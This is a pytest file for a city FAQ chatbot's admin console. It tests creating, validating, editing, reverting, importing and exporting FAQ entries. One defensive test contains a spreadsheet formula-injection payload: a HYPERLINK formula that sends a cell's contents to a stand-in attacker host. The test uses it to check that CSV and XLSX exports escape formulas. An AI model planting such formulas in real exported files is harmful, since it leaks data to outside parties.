"""FAQ editor: create/edit with validation, live search, history diff and revert, bulk import/export."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import openpyxl

from bot.services import services_of
from bot.storage import accounts, faq_repo
from bot.storage.db import transaction
from bot.storage.models import FaqHistory
from tests.support.admin import csrf_of

FORM = {
    "question": "パスポートの申請はどこでできますか",
    "answer": "県のパスポートセンター(市役所2階)で申請できます。",
    "category": "証明書",
    "department": "市民課",
    "url": "https://www.city.midorino.example/passport",
    "alt_questions": "パスポートを作りたい\n旅券の申請",
    "keywords": "旅券、パスポート",
}


def _create(client, **changes) -> object:
    return client.post(
        "/admin/faq/new",
        data={"csrf_token": csrf_of(client), "id": "passport", **FORM, **changes},
        follow_redirects=False,
    )


def test_create_is_searchable_and_audited(client_for, admin_app) -> None:
    editor = client_for("editor")
    assert (
        editor.get("/admin/faq/try.json", params={"q": "パスポートを作りたい"}).json()["hits"][0]["faq_id"]
        != "passport"
    )
    response = _create(editor)
    assert response.status_code == 303 and response.headers["location"] == "/admin/faq/passport?saved=1"
    page = editor.get("/admin/faq/passport").text
    assert "県のパスポートセンター" in page and "詳しくはこちら" in page  # LINE preview with its link button
    services_of(admin_app).searcher._checked = 0  # do not wait for the 0.5 s poll in a unit test
    tried = editor.get("/admin/faq/try.json", params={"q": "パスポートを作りたい"}).json()
    assert tried["hits"][0]["faq_id"] == "passport" and len(tried["hits"]) <= 3
    assert all(isinstance(h["score"], float) for h in tried["hits"])
    with services_of(admin_app).factory() as session:
        entry = faq_repo.get_entry(session, "passport")
        assert entry.alt_questions == ["パスポートを作りたい", "旅券の申請"] and entry.keywords == [
            "旅券",
            "パスポート",
        ]
        assert [a.action for a in accounts.list_audit(session, actor="editor")][0] == "faq.create"


def test_invalid_form_comes_back_with_messages(client_for, admin_app) -> None:
    editor = client_for("editor")
    response = _create(editor, answer="あ" * 5001, url="ftp://x", id="Bad ID")
    assert response.status_code == 400
    assert "5,000 文字まで" in response.text and "http:// または https://" in response.text
    assert "空白を「-」に" in response.text  # "Bad ID": ids are the city's own, but without spaces
    assert "ftp://x" in response.text  # what was typed is kept
    assert _create(editor, id="juminhyo").status_code == 409  # taken id
    with services_of(admin_app).factory() as session:
        assert faq_repo.get_entry(session, "passport") is None


def test_blank_id_is_generated(client_for) -> None:
    editor = client_for("editor")
    response = _create(editor, id="")
    assert response.status_code == 303 and response.headers["location"].startswith("/admin/faq/faq-")


def test_edit_shows_diff_and_revert_restores(client_for, admin_app) -> None:
    editor = client_for("editor")
    page = editor.get("/admin/faq/juminhyo/edit").text
    version = page.split('name="version" value="')[1].split('"')[0]
    token = csrf_of(editor)
    data = {
        "csrf_token": token,
        "version": version,
        "question": "住民票の写しはどこで取れますか",
        "answer": "市民課の窓口、またはマイナンバーカードでコンビニで取れます。",
        "category": "証明書",
        "department": "市民課",
        "url": "https://www.city.midorino.example/juminhyo",
        "alt_questions": "住民票がほしい",
    }
    assert editor.post("/admin/faq/juminhyo/edit", data=data, follow_redirects=False).status_code == 303
    stale = editor.post(
        "/admin/faq/juminhyo/edit", data={**data, "answer": "古い画面から"}, follow_redirects=False
    )
    assert stale.status_code == 409 and "ほかの職員" in stale.text
    detail = editor.get("/admin/faq/juminhyo").text
    assert "<ins>" in detail and "マイナンバーカードで" in detail  # readable diff
    with services_of(admin_app).factory() as session:
        change = faq_repo.history(session, "juminhyo")[0]
    assert change.action == "update" and change.actor == "editor"
    assert (
        editor.post(
            f"/admin/faq/revert/{change.id}", data={"csrf_token": token}, follow_redirects=False
        ).status_code
        == 303
    )
    with services_of(admin_app).factory() as session:
        assert faq_repo.get_entry(session, "juminhyo").answer == "市民課の窓口かコンビニで取れます。"
        assert faq_repo.history(session, "juminhyo")[0].action == "revert"


def test_delete_then_revert_brings_it_back(client_for, admin_app) -> None:
    editor = client_for("editor")
    token = csrf_of(editor)
    editor.post("/admin/faq/inu-toroku/delete", data={"csrf_token": token})
    with services_of(admin_app).factory() as session:
        assert faq_repo.get_entry(session, "inu-toroku") is None
        deletion = session.query(FaqHistory).filter_by(faq_id="inu-toroku", action="delete").one()
    assert "削除済み" in editor.get("/admin/faq/inu-toroku").text
    editor.post(f"/admin/faq/revert/{deletion.id}", data={"csrf_token": token})
    with services_of(admin_app).factory() as session:
        assert faq_repo.get_entry(session, "inu-toroku").department == "環境課"


def _csv(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["id", "question", "answer", "category", "department", "url"])
    writer.writerows(rows)
    return buffer.getvalue().encode("utf-8")


def test_import_reports_every_bad_row_and_applies_nothing(client_for, admin_app) -> None:
    editor = client_for("editor")
    bad = _csv(
        [
            ["new-one", "新しい質問", "新しい答え", "", "", ""],
            ["Bad Id", "質問", "答え", "", "", ""],
            ["ok-two", "", "答え", "", "", ""],
            ["ok-three", "質問3", "答え3", "", "", "not a url"],
        ]
    )
    response = editor.post(
        "/admin/faq/io/import",
        data={"csrf_token": csrf_of(editor), "mode": "merge"},
        files={"file": ("faq.csv", bad, "text/csv")},
    )
    assert response.status_code == 400
    assert "3 件の誤り" in response.text and "何も取り込んでいません" in response.text
    for row in ("<td>3</td>", "<td>4</td>", "<td>5</td>"):
        assert row in response.text
    with services_of(admin_app).factory() as session:
        assert faq_repo.get_entry(session, "new-one") is None


def test_import_merge_and_replace(client_for, admin_app) -> None:
    editor = client_for("editor")
    good = _csv(
        [
            ["new-one", "新しい質問", "新しい答え", "", "", ""],
            ["juminhyo", "住民票の写しはどこで取れますか", "変更後の答え", "証明書", "市民課", ""],
        ]
    )
    merged = editor.post(
        "/admin/faq/io/import",
        data={"csrf_token": csrf_of(editor), "mode": "merge"},
        files={"file": ("faq.csv", good, "text/csv")},
    )
    assert merged.status_code == 200 and "新規 1 件" in merged.text and "更新 1 件" in merged.text
    with services_of(admin_app).factory() as session:
        assert faq_repo.count(session) == 4
    refused = editor.post(
        "/admin/faq/io/import",
        data={"csrf_token": csrf_of(editor), "mode": "replace"},
        files={"file": ("faq.csv", good, "text/csv")},
    )
    assert refused.status_code == 400  # replace needs the confirmation box
    replaced = editor.post(
        "/admin/faq/io/import",
        data={"csrf_token": csrf_of(editor), "mode": "replace", "confirm_replace": "1"},
        files={"file": ("faq.csv", good, "text/csv")},
    )
    assert replaced.status_code == 200 and "削除 2 件" in replaced.text
    with services_of(admin_app).factory() as session:
        assert sorted(e.id for e in faq_repo.list_entries(session)) == ["juminhyo", "new-one"]
        assert [a.action for a in accounts.list_audit(session, action="faq.import")] == ["faq.import"] * 2


def test_export_roundtrips(client_for) -> None:
    viewer = client_for("viewer")
    text = viewer.get("/admin/faq/io/export.csv").content.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("id,question,answer") and "juminhyo" in text
    xlsx = viewer.get("/admin/faq/io/export.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet.cell(1, 1).value == "id" and sheet.max_row == 4


def test_list_filters(client_for) -> None:
    viewer = client_for("viewer")
    page = viewer.get("/admin/faq", params={"department": "環境課"}).text
    assert "粗大ごみ" in page and "住民票の写し" not in page
    page = viewer.get("/admin/faq", params={"q": "住民票"}).text
    assert "住民票の写し" in page and "粗大ごみ" not in page
    tried = viewer.get("/admin/faq", params={"try": "粗大ごみの出し方"}).text
    assert "sodai-gomi" in tried and "判定" in tried


def test_editing_in_the_console_keeps_the_answer_translations(client_for, admin_app) -> None:
    """The form has no answer_<lang> fields (zh, ko, …): an edit must not drop what the FAQ file brought."""
    with transaction(services_of(admin_app).factory) as session:
        entry = faq_repo.get_entry(session, "juminhyo")
        faq_repo.save_entry(session, replace(entry, translations={"zh": "在市民课办理。"}), actor="import")
    editor = client_for("editor")
    page = editor.get("/admin/faq/juminhyo/edit").text
    version = page.split('name="version" value="')[1].split('"')[0]
    data = {
        "csrf_token": csrf_of(editor),
        "version": version,
        "question": "住民票の写しはどこで取れますか",
        "answer": "市民課の窓口で取れます。",
        "category": "証明書",
        "department": "市民課",
        "url": "",
    }
    assert editor.post("/admin/faq/juminhyo/edit", data=data, follow_redirects=False).status_code == 303
    with services_of(admin_app).factory() as session:
        saved = faq_repo.get_entry(session, "juminhyo")
    assert saved.answer == "市民課の窓口で取れます。" and saved.translations == {"zh": "在市民课办理。"}


def test_export_holds_no_formula_and_imports_back_unchanged(client_for, admin_app) -> None:
    """Issue 17, item 1: a list answer ("- …") and a resident's question attached as an alternative are text in
    both exports, and each export imports back to the same entry."""
    attack = '=HYPERLINK("https://evil.example/?"&A3,"詳細")'
    with transaction(services_of(admin_app).factory) as session:
        entry = faq_repo.get_entry(session, "sodai-gomi")
        listed = replace(entry, answer="- 電話で申し込む\n- 券を貼って出す", alt_questions=[attack])
        faq_repo.save_entry(session, listed, actor="test")
        listed = faq_repo.get_entry(session, "sodai-gomi")
    editor = client_for("editor")
    text = editor.get("/admin/faq/io/export.csv").content.decode("utf-8-sig")
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["id"] == "sodai-gomi")
    assert row["answer"].startswith("'- 電話") and row["alt_questions"] == "'" + attack
    xlsx = editor.get("/admin/faq/io/export.xlsx").content
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx)).active
    assert all(cell.data_type == "s" for r in sheet.iter_rows() for cell in r if cell.value)
    assert not [c.value for r in sheet.iter_rows() for c in r if str(c.value or "")[:1] in set("=+-@")]
    for name, content in (("faq.csv", text.encode("utf-8")), ("faq.xlsx", xlsx)):
        imported = editor.post(
            "/admin/faq/io/import",
            data={"csrf_token": csrf_of(editor), "mode": "merge"},
            files={"file": (name, content, "application/octet-stream")},
        )
        assert imported.status_code == 200, imported.text
        with services_of(admin_app).factory() as session:
            again = faq_repo.get_entry(session, "sodai-gomi")
        assert (again.answer, again.alt_questions) == (listed.answer, listed.alt_questions), name
